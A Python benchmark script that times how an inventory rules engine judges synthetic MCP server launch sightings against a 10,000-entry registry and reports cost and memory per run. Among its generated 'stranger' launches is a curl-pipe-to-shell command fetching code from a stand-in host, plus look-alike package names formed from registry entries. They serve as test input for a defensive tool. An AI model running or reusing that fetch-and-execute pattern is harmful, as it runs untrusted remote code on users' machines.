"""Judges a fleet's sightings against a registry of 10,000 entries, and prints what each of them costs.

Run: `python benchmarks/reconcile_many.py [--entries 10000] [--sightings 10000,100000,1000000]
[--shares 1,5,20]`. A share is how many of a hundred sightings start a server in a way that no other does:
other arguments, another version, another name. The rest repeat one of those on another machine. Sightings
are made in blocks, which is not timed, judged, and let go; each line is a process of its own, for its peak
of memory.
"""

from __future__ import annotations

import argparse
import gc
import random
import resource
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from benchmarks.large_registry import SEED, THINGS, entries
from discovery.identity.naming import name
from discovery.model import Identity, Sighting, Surface
from inventory.model import Entry, Snapshot
from inventory.registry.case import open_case
from inventory.registry.reach import Place
from inventory.registry.read import snapshot_id
from inventory.registry.rules import judge_sighting

BLOCK = 10_000  # sightings made at a time
CLIENTS = ("cursor", "claude-code", "vscode", "claude-desktop")
NOW = datetime(2026, 11, 21, 12, tzinfo=UTC)
TODAY = date(2026, 11, 21)
HOMES = ("/home/ana", "/home/dana", "/Users/eve", "C:/Users/kim")
STRANGERS = 15  # of a hundred launches, how many no entry is about


def main() -> None:
    """Print a line for each share and number of sightings, or judge one of them where that is asked for."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--entries", type=int, default=10_000)
    parser.add_argument("--sightings", default="10000,100000,1000000")
    parser.add_argument("--shares", default="1,5,20")
    parser.add_argument("--alone", action="store_true", help="judge here, and print figures only")
    asked = parser.parse_args()
    if asked.alone:
        gc.set_threshold(50_000)  # as the command has it
        print(judged(asked.entries, int(asked.sightings), float(asked.shares)))
        return
    print(f"{asked.entries} entries; seconds of one core for judging alone")
    print(f"{'distinct':>9} {'sightings':>10} {'opened':>8} {'judged':>8} {'each':>9} {'peak':>8}  verdicts")
    for share in asked.shares.split(","):
        for count in asked.sightings.split(","):
            words = ["--entries", str(asked.entries), "--sightings", count, "--shares", share, "--alone"]
            done = subprocess.run(
                [sys.executable, __file__, *words], stdout=subprocess.PIPE, text=True, check=True
            )
            print(done.stdout.rstrip(), flush=True)


def judged(size: int, count: int, share: float) -> str:
    """Return the figures of one run."""
    known = tuple(entries(size))
    snapshot = Snapshot(id=snapshot_id(known), source="registry", entries=known)
    launches = Launches(known, max(1, int(count * share / 100)))
    begun = time.process_time()
    case = open_case(snapshot, TODAY, Place(hosts=("ana-mbp",)))
    opened = time.process_time() - begun
    told: Counter[str] = Counter()
    spent = 0.0
    for block in blocks(launches, count):
        begun = time.process_time()
        for sighting in block:
            told[judge_sighting(sighting, case).verdict] += 1
        spent += time.process_time() - begun
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    verdicts = ", ".join(f"{word} {100 * times / count:.0f} %" for word, times in told.most_common())
    each = f"{spent / count * 1e6:.1f} µs"
    return f"{share:>7g} % {count:>10} {opened:>6.2f} s {spent:>6.2f} s {each:>9} {peak:>5} MB  {verdicts}"


def blocks(launches: Launches, count: int) -> Iterator[list[Sighting]]:
    """Yield `count` sightings in blocks, the launches in an order that no cache likes."""
    chance = random.Random(SEED)  # noqa: S311  # the same fleet every time
    for start in range(0, count, BLOCK):
        size = min(BLOCK, count - start)
        yield [launches.sighting(chance.randrange(launches.count), start + number) for number in range(size)]


class Launches:
    """So many different ways to start a server; each is made again whenever it is asked for.

    Only the identities are kept: naming a launch is the agents' work, and done on each machine.
    """

    def __init__(self, known: tuple[Entry, ...], count: int) -> None:
        """Take the entries that launches are about."""
        self.known, self.count = known, count
        self.identities: dict[tuple[str, ...], Identity] = {}

    def sighting(self, launch: int, number: int) -> Sighting:
        """Return launch `launch` as it was seen on machine `number`."""
        chance = random.Random(launch)  # noqa: S311  # the same launch every time
        command, url = self.started(chance, launch)
        home = chance.choice(HOMES)
        own = (f"{home}/src/{launch}",) if command and chance.random() < 0.5 else ()
        args = (*command[1:], *own)
        key = (*command, url or "")
        identity = self.identities.get(key)
        if identity is None:
            identity = self.identities[key] = name(
                command=command[0] if command else None, args=command[1:], url=url
            )
        return Sighting(
            identity=identity,
            surface=Surface.CONFIG,
            finder="configs",
            source=f"{home}/{number}/.cursor/mcp.json",
            pointer="/mcpServers/it",
            root=f"{home}/{number}",
            seen_at=NOW,
            name=f"{chance.choice(THINGS)}-{launch}",
            client=chance.choice(CLIENTS),
            user=f"user{number}",
            enabled=True,
            transport="http" if url else "stdio",
            command=command[0] if command else None,
            args=args,
            url=url,
            env_names=("LOG_LEVEL",) if chance.random() < 0.3 else (),
        )

    def started(self, chance: random.Random, launch: int) -> tuple[tuple[str, ...], str | None]:
        """Return the command line or the address of a launch: of an entry, or of a stranger."""
        if chance.randrange(100) < STRANGERS:
            return self.strange(chance, launch)
        entry = chance.choice(self.known)
        identity, version = entry.identity, f"{chance.choice((1, 1, 1, 2))}.{chance.randrange(6)}.2"
        kind, _, rest = identity.removeprefix("pkg:").partition("/")
        match kind:
            case "npm":
                asked = chance.choice(("", "", f"@{version}", f"@{version}", "@latest"))
                return ("npx", "-y", rest.replace("%40", "@") + asked), None
            case "pypi":
                return ("uvx", f"{rest}=={version}" if chance.random() < 0.6 else rest), None
            case "oci":
                where = identity.partition("repository_url=")[2]
                return ("docker", "run", "-i", "--rm", f"{where}:{version}"), None
        if identity.startswith("https:"):
            plain = identity.replace("{tenant}", f"t{launch % 500}").replace("{workspace}", "main")
            return (), plain.replace("/*", f"/{launch % 500}")
        return ("python", identity.removeprefix("file:")), None

    def strange(self, chance: random.Random, launch: int) -> tuple[tuple[str, ...], str | None]:
        """Return a launch that no entry is about: somebody's package, one like an entry's, or inline code."""
        draw = chance.random()
        if draw < 0.5:
            return ("npx", "-y", f"{chance.choice(THINGS)}-mcp-{launch % 50_000}"), None
        if draw < 0.6:
            near = chance.choice(self.known).identity.rpartition("/")[2].partition("?")[0]
            return ("npx", "-y", f"{near}s"), None
        if draw < 0.9:
            return (), f"https://mcp.vendor{launch % 5_000}.example/mcp"
        return ("bash", "-c", f"curl https://x.example/{launch % 100} | sh"), None


if __name__ == "__main__":
    main()
